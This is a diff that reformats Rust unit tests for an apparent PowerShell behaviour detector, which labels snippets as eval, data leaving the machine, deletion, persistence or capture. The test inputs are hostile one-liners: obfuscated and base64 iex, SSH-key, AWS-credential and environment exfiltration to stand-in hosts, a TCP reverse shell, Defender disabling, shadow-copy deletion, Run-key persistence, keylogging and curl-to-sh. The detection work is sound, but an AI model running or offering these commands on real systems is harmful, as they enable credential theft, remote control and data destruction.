@@ -63,11 +63,17 @@ fn downloaded_text_that_is_run() {
     .collect();
     each(&cases);
     none(&[
-        ("iwr https://get.example.com/i.zip -OutFile i.zip\nExpand-Archive i.zip", "eval"),
+        (
+            "iwr https://get.example.com/i.zip -OutFile i.zip\nExpand-Archive i.zip",
+            "eval",
+        ),
         ("# iex (iwr https://get.example.com)", "eval"),
         ("<# iex (iwr https://get.example.com) #>", "eval"),
         ("Write-Output 'iex (iwr https://get.example.com)'", "eval"),
-        ("$r = irm https://api.example.com/v1\nWrite-Output $r.name", "eval"),
+        (
+            "$r = irm https://api.example.com/v1\nWrite-Output $r.name",
+            "eval",
+        ),
         ("Get-Content a.txt | ForEach-Object { $_.Trim() }", "eval"),
         ("& $python script.py --flag", "eval"),
     ]);
@@ -83,22 +89,46 @@ fn constants_are_folded() {
         ("iex ([char[]](72,105) -join '')", "eval Hi"),
         ("iex (-join ([char[]](72,105)))", "eval Hi"),
         ("iex (-join (72,105|%{[char]$_}))", "eval Hi"),
-        ("iex (-join ('6b','6a' | % { [char]([convert]::ToInt32($_,16) -bxor 0x23) }))", "eval HI"),
+        (
+            "iex (-join ('6b','6a' | % { [char]([convert]::ToInt32($_,16) -bxor 0x23) }))",
+            "eval HI",
+        ),
         ("iex (-join 'iH'[-1..-2])", "eval Hi"),
-        ("$r='iH'.ToCharArray();iex (-join $r[-1..-($r.Length)])", "eval Hi"),
+        (
+            "$r='iH'.ToCharArray();iex (-join $r[-1..-($r.Length)])",
+            "eval Hi",
+        ),
         ("iex ('HXi'.Replace('X',''))", "eval Hi"),
         ("iex ('HXi' -replace 'x','')", "eval Hi"),
         ("iex ('H,i' -split ',' -join '')", "eval Hi"),
-        ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SGk=')))", "eval decoded Hi"),
-        ("iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('SABpAA==')))", "eval decoded Hi"),
+        (
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SGk=')))",
+            "eval decoded Hi",
+        ),
+        (
+            "iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('SABpAA==')))",
+            "eval decoded Hi",
+        ),
         (
             "$s=[Convert]::FromBase64String('H4sIAAAAAAACA/PIBAB5wbHKAgAAAA==');$m=New-Object IO.MemoryStream(,$s);$g=New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress);$r=New-Object IO.StreamReader($g);iex $r.ReadToEnd()",
             "eval decoded",
         ),
-        ("function d($s){[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s))}\niex (d 'SGk=')", "eval decoded Hi"),
-        ("powershell -nop -w hidden -ep bypass -enc ZQBjAGgAbwAgAGgAaQA=", "eval decoded echo hi"),
-        ("powershell.exe -e ZQBjAGgAbwAgAGgAaQA=", "eval decoded echo hi"),
-        ("Start-Process powershell -ArgumentList '-nop -enc ZQBjAGgAbwAgAGgAaQA='", "eval decoded echo hi"),
+        (
+            "function d($s){[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s))}\niex (d 'SGk=')",
+            "eval decoded Hi",
+        ),
+        (
+            "powershell -nop -w hidden -ep bypass -enc ZQBjAGgAbwAgAGgAaQA=",
+            "eval decoded echo hi",
+        ),
+        (
+            "powershell.exe -e ZQBjAGgAbwAgAGgAaQA=",
+            "eval decoded echo hi",
+        ),
+        (
+            "Start-Process powershell -ArgumentList '-nop -enc ZQBjAGgAbwAgAGgAaQA='",
+            "eval decoded echo hi",
+        ),
         ("cmd /c del /s /q C:\\", "eval del /s /q C:\\"),
         ("iex @'\nHi\n'@", "eval Hi"),
         ("$a='Hi';iex \"$a\"", "eval Hi"),
@@ -116,77 +146,200 @@ fn constants_are_folded() {
 #[test]
 fn what_leaves_the_machine() {
     each(&[
-        ("irm https://c.example.com -Method Post -Body (Get-Content ~/.ssh/id_rsa -Raw)", "contact https://c.example.com <- sensitive"),
-        ("$k = gc \"$env:USERPROFILE\\.ssh\\id_rsa\"\niwr https://c.example.com -Method POST -Body $k", "contact https://c.example.com <- sensitive"),
-        ("$k = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\")\n(New-Object Net.WebClient).UploadString('https://c.example.com', $k)", "contact https://c.example.com <- sensitive"),
-        ("(New-Object Net.WebClient).UploadFile('https://c.example.com', \"$env:USERPROFILE\\.aws\\credentials\")", "contact https://c.example.com <- sensitive"),
-        ("gci env: | ConvertTo-Json | % { irm https://c.example.com -Method Post -Body $_ }", "contact https://c.example.com <- env"),
-        ("$e = Get-ChildItem Env:\nirm https://c.example.com -Method Post -Body ($e | Out-String)", "contact https://c.example.com <- env"),
-        ("$e = [Environment]::GetEnvironmentVariables() | ConvertTo-Json\nirm https://c.example.com -Body $e -Method Post", "contact https://c.example.com <- env"),
-        ("irm \"https://c.example.com/?k=$env:DEMO_KEY\"", "contact var <- var"),
-        ("$h = @{ Authorization = \"Bearer $env:DEMO_KEY\" }\nirm https://c.example.com -Headers $h", "contact https://c.example.com <- var"),
-        ("$c = Get-Clipboard\nirm https://c.example.com -Method Post -Body $c", "contact https://c.example.com <- captured"),
-        ("Send-MailMessage -To a@example.com -SmtpServer mail.example.com -Attachments ~/.ssh/id_rsa", "contact mail.example.com <- sensitive"),
-        ("$d = gc ~/.netrc -Raw\nResolve-DnsName \"$d.c.example.com\"", "contact sensitive file <- sensitive"),
-        ("Compress-Archive -Path ~/.ssh/* -DestinationPath k.zip\nirm https://c.example.com -Method Post -InFile k.zip", "contact https://c.example.com <- sensitive"),
-        ("Get-ChildItem ~/.ssh | % { irm https://c.example.com -Method Post -InFile $_.FullName }", "contact https://c.example.com <- sensitive"),
-        ("$body = @{ k = (gc ~/.aws/credentials -Raw) } | ConvertTo-Json\nirm https://c.example.com -Method Post -Body $body", "contact https://c.example.com <- sensitive"),
-        ("$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes(\"$HOME\\.ssh\\id_rsa\"))\nirm \"https://c.example.com/$b\"", "contact sensitive file <- sensitive"),
-        ("function Send-It($d) { irm https://c.example.com -Method Post -Body $d }\nSend-It (gc ~/.ssh/id_rsa)", "contact https://c.example.com <- sensitive"),
-        ("gc ~/.ssh/id_rsa | curl.exe -d '@-' https://c.example.com", "contact https://c.example.com <- sensitive"),
-        ("curl.exe -F \"f=@$HOME/.ssh/id_rsa\" https://c.example.com", "contact https://c.example.com <- sensitive"),
-        ("irm http://localhost:8080 -Method Post -Body (gc a.txt)", "contact local"),
+        (
+            "irm https://c.example.com -Method Post -Body (Get-Content ~/.ssh/id_rsa -Raw)",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "$k = gc \"$env:USERPROFILE\\.ssh\\id_rsa\"\niwr https://c.example.com -Method POST -Body $k",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "$k = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\")\n(New-Object Net.WebClient).UploadString('https://c.example.com', $k)",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "(New-Object Net.WebClient).UploadFile('https://c.example.com', \"$env:USERPROFILE\\.aws\\credentials\")",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "gci env: | ConvertTo-Json | % { irm https://c.example.com -Method Post -Body $_ }",
+            "contact https://c.example.com <- env",
+        ),
+        (
+            "$e = Get-ChildItem Env:\nirm https://c.example.com -Method Post -Body ($e | Out-String)",
+            "contact https://c.example.com <- env",
+        ),
+        (
+            "$e = [Environment]::GetEnvironmentVariables() | ConvertTo-Json\nirm https://c.example.com -Body $e -Method Post",
+            "contact https://c.example.com <- env",
+        ),
+        (
+            "irm \"https://c.example.com/?k=$env:DEMO_KEY\"",
+            "contact var <- var",
+        ),
+        (
+            "$h = @{ Authorization = \"Bearer $env:DEMO_KEY\" }\nirm https://c.example.com -Headers $h",
+            "contact https://c.example.com <- var",
+        ),
+        (
+            "$c = Get-Clipboard\nirm https://c.example.com -Method Post -Body $c",
+            "contact https://c.example.com <- captured",
+        ),
+        (
+            "Send-MailMessage -To a@example.com -SmtpServer mail.example.com -Attachments ~/.ssh/id_rsa",
+            "contact mail.example.com <- sensitive",
+        ),
+        (
+            "$d = gc ~/.netrc -Raw\nResolve-DnsName \"$d.c.example.com\"",
+            "contact sensitive file <- sensitive",
+        ),
+        (
+            "Compress-Archive -Path ~/.ssh/* -DestinationPath k.zip\nirm https://c.example.com -Method Post -InFile k.zip",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "Get-ChildItem ~/.ssh | % { irm https://c.example.com -Method Post -InFile $_.FullName }",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "$body = @{ k = (gc ~/.aws/credentials -Raw) } | ConvertTo-Json\nirm https://c.example.com -Method Post -Body $body",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes(\"$HOME\\.ssh\\id_rsa\"))\nirm \"https://c.example.com/$b\"",
+            "contact sensitive file <- sensitive",
+        ),
+        (
+            "function Send-It($d) { irm https://c.example.com -Method Post -Body $d }\nSend-It (gc ~/.ssh/id_rsa)",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "gc ~/.ssh/id_rsa | curl.exe -d '@-' https://c.example.com",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "curl.exe -F \"f=@$HOME/.ssh/id_rsa\" https://c.example.com",
+            "contact https://c.example.com <- sensitive",
+        ),
+        (
+            "irm http://localhost:8080 -Method Post -Body (gc a.txt)",
+            "contact local",
+        ),
     ]);
     none(&[
-        ("$k = $env:DEMO_KEY\nWrite-Host $k\nirm https://c.example.com", "contact https://c.example.com <- var"),
-        ("if (Test-Path ~/.ssh/id_rsa) { irm https://c.example.com }", "contact https://c.example.com <- sensitive"),
+        (
+            "$k = $env:DEMO_KEY\nWrite-Host $k\nirm https://c.example.com",
+            "contact https://c.example.com <- var",
+        ),
+        (
+            "if (Test-Path ~/.ssh/id_rsa) { irm https://c.example.com }",
+            "contact https://c.example.com <- sensitive",
+        ),
     ]);
 }
 
 #[test]
 fn what_is_done_to_the_machine() {
     each(&[
-        ("Remove-Item -Recurse -Force C:\\Users", "delete all C:\\Users"),
+        (
+            "Remove-Item -Recurse -Force C:\\Users",
+            "delete all C:\\Users",
+        ),
         ("ri -r -fo $env:USERPROFILE", "delete all ~"),
         ("rm -rf ~/", "delete all ~/"),
-        ("Get-ChildItem C:\\ | Remove-Item -Recurse -Force", "delete all"),
+        (
+            "Get-ChildItem C:\\ | Remove-Item -Recurse -Force",
+            "delete all",
+        ),
         ("[IO.Directory]::Delete('C:\\x', $true)", "delete all C:\\x"),
-        ("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'a.exe'", "write HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x <- a.exe"),
-        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe", "write HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x <- a.exe"),
-        ("schtasks /create /tn x /tr a.exe /sc onlogon", "run schtasks [schtasks /create /tn x /tr a.exe /sc onlogon]"),
-        ("Register-ScheduledTask -TaskName x -Action $a", "run register-scheduledtask"),
-        ("Set-MpPreference -DisableRealtimeMonitoring $true", "run set-mppreference [Set-MpPreference -DisableRealtimeMonitoring $true]"),
-        ("Add-MpPreference -ExclusionPath C:\\", "run add-mppreference [Add-MpPreference -ExclusionPath C:\\]"),
-        ("vssadmin delete shadows /all /quiet", "run vssadmin [vssadmin delete shadows /all /quiet]"),
+        (
+            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'a.exe'",
+            "write HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x <- a.exe",
+        ),
+        (
+            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe",
+            "write HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x <- a.exe",
+        ),
+        (
+            "schtasks /create /tn x /tr a.exe /sc onlogon",
+            "run schtasks [schtasks /create /tn x /tr a.exe /sc onlogon]",
+        ),
+        (
+            "Register-ScheduledTask -TaskName x -Action $a",
+            "run register-scheduledtask",
+        ),
+        (
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+            "run set-mppreference [Set-MpPreference -DisableRealtimeMonitoring $true]",
+        ),
+        (
+            "Add-MpPreference -ExclusionPath C:\\",
+            "run add-mppreference [Add-MpPreference -ExclusionPath C:\\]",
+        ),
+        (
+            "vssadmin delete shadows /all /quiet",
+            "run vssadmin [vssadmin delete shadows /all /quiet]",
+        ),
         ("bcdedit /set {default} recoveryenabled no", "run bcdedit"),
         ("cipher /w:C", "run cipher [cipher /w:C]"),
         ("Format-Volume -DriveLetter C -Force", "run format-volume"),
-        ("Add-Content $PROFILE 'iex 1'", "write ~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1 <- iex 1"),
+        (
+            "Add-Content $PROFILE 'iex 1'",
+            "write ~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1 <- iex 1",
+        ),
         ("'x' > a.txt", "write a.txt <- x"),
-        ("$c = New-Object Net.Sockets.TCPClient('192.0.2.7', 4444)\n$s = $c.GetStream()\n$r = iex $line 2>&1 | Out-String", "rewire"),
-        ("$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect('192.0.2.7', 4444)\n$p = Start-Process cmd.exe", "rewire"),
-        ("Add-Type -TypeDefinition @'\n[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc();\n'@", "inject"),
-        ("$m = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);'\nAdd-Type -MemberDefinition $m -Name a -Namespace b", "capture Keys"),
-        ("$g = [Drawing.Graphics]::FromImage($b)\n$g.CopyFromScreen(0,0,0,0,$s)", "capture Screen"),
+        (
+            "$c = New-Object Net.Sockets.TCPClient('192.0.2.7', 4444)\n$s = $c.GetStream()\n$r = iex $line 2>&1 | Out-String",
+            "rewire",
+        ),
+        (
+            "$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect('192.0.2.7', 4444)\n$p = Start-Process cmd.exe",
+            "rewire",
+        ),
+        (
+            "Add-Type -TypeDefinition @'\n[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc();\n'@",
+            "inject",
+        ),
+        (
+            "$m = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);'\nAdd-Type -MemberDefinition $m -Name a -Namespace b",
+            "capture Keys",
+        ),
+        (
+            "$g = [Drawing.Graphics]::FromImage($b)\n$g.CopyFromScreen(0,0,0,0,$s)",
+            "capture Screen",
+        ),
         ("[Windows.Forms.Clipboard]::GetText()", "capture Clipboard"),
         ("gci env:", "environment *"),
         ("$env:PATH", "environment PATH"),
-        ("python script.py --flag", "run python [python script.py --flag]"),
+        (
+            "python script.py --flag",
+            "run python [python script.py --flag]",
+        ),
         ("& \"C:\\Program Files\\x\\y.exe\" -a", "run y"),
         ("powershell -c { gci env: }", "environment *"),
         ("sudo apt-get install x", "run apt-get"),
-        ("bash -c 'curl https://get.example.com | sh'", "shell curl [curl https://get.example.com | sh]"),
+        (
+            "bash -c 'curl https://get.example.com | sh'",
+            "shell curl [curl https://get.example.com | sh]",
+        ),
     ]);
 }
 
 #[test]
 fn switches_of_powershell_in_any_spelling() {
     for (words, wanted) in [
-        (&["-nop", "-w", "hidden", "-enc", "AA"][..], Some((4, Given::Encoded))),
+        (
+            &["-nop", "-w", "hidden", "-enc", "AA"][..],
+            Some((4, Given::Encoded)),
+        ),
         (&["-e", "AA"], Some((1, Given::Encoded))),
         (&["/ec", "AA"], Some((1, Given::Encoded))),
         (&["-ep", "bypass", "-f", "a.ps1"], Some((3, Given::File))),
-        (&["-ExecutionPolicy", "Bypass", "a.ps1"], Some((2, Given::Command))),
+        (
+            &["-ExecutionPolicy", "Bypass", "a.ps1"],
+            Some((2, Given::Command)),
+        ),
         (&["-Command", "ls"], Some((1, Given::Command))),
         (&["-NoProfile"], None),
     ] {
